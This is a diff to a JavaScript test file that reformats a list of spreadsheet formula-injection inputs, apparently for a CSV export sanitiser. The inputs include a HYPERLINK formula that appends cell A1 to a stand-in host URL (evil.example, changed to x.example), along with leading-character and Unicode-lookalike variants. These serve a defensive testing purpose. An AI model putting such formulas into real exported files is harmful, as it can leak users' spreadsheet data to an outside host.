@@ -39,14 +39,7 @@ it('a CSV file has its columns without any row', async () =>
 
 it.each(
   [
-    [
-      '=1+1',
-      '=HYPERLINK("http://evil.example?"&A1)',
-      '+1 555 0100',
-      '-2+3',
-      '@SUM(A1)',
-      '=1,2;"3"',
-    ],
+    ['=1+1', '=HYPERLINK("http://x.example?"&A1)', '+1 555 0100', '-2+3', '@SUM(A1)', '=1,2;"3"'],
     ['\t=1', '\r=1', '\n=1', ' =1+1', '\u00a0=1+1', '\u200b=1+1'],
     ['\uff1d1+1', '\uff0b1', '\uff0d1', '\uff201'],
   ].flat(),
